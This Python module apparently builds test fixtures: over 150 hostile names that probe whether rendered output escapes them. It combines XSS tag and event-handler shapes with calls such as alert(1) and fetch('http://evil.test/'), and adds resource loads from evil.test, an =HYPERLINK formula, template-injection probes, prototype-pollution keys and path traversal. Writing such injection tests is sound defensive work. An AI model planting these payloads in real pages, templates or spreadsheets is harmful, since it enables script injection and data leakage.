"""Names that try to become markup, script, style, a request or a formula: 150 and more, as ids, labels and notes."""

from __future__ import annotations

_CALLS = ("alert(1)", "confirm(1)", "prompt(1)", "document.title='pwned'", "fetch('http://evil.test/')")
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</text><script>{}</script>",
    "</bdi></td></table><script>{}</script>",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "\" onmouseover=\"{}\" x=\"",
    "' onfocus='{}' autofocus='",
    "\" autofocus onfocus={} x=\"",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=\"javascript:{}\">x</a>",
    "javascript:{}",
    "<math><mi//xlink:href=\"data:x,<script>{}</script>\">",
    "{{{{ {} }}}}",
    "${{{}}}",
    "<template><script>{}</script></template>",
    "<!--<script>{}//-->",
    "<input autofocus onfocus={}>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip
_SINGLE = (
    "<!--", "-->", "]]>", "</script", "</SCRIPT >", "<script", "<", ">", "&", "\"", "'", "`", "&amp;", "&#x3c;b&#x3e;",
    "<link rel=stylesheet href=http://evil.test/x.css>", "<img src=http://evil.test/x.png>",
    "<style>@import 'http://evil.test/x.css';</style>", "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>", "<form action=http://evil.test/><button>x</button></form>",
    "<object data=http://evil.test/></object>", "<embed src=http://evil.test/>",
    "<video src=http://evil.test/ autoplay>",
    "=HYPERLINK(\"http://evil.test/\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "{% raw %}", "{{ 7*7 }}", "{# x #}",
    "\u2028alert(1)", "\u2029alert(1)", "\u202eevil", "a\u0001b", "a\u0007b", "x" * 5000, "💥" * 50, "__proto__",
    "constructor", "../../etc", "#verdict", "h-verdict", "[data-pair]", "1,0", "nbsp\u00a0x", "\ufeffbom",
)  # fmt: skip

PAYLOADS = list(dict.fromkeys([shape.format(call) for shape in _SHAPES for call in _CALLS] + list(_SINGLE)))
assert len(PAYLOADS) >= 150
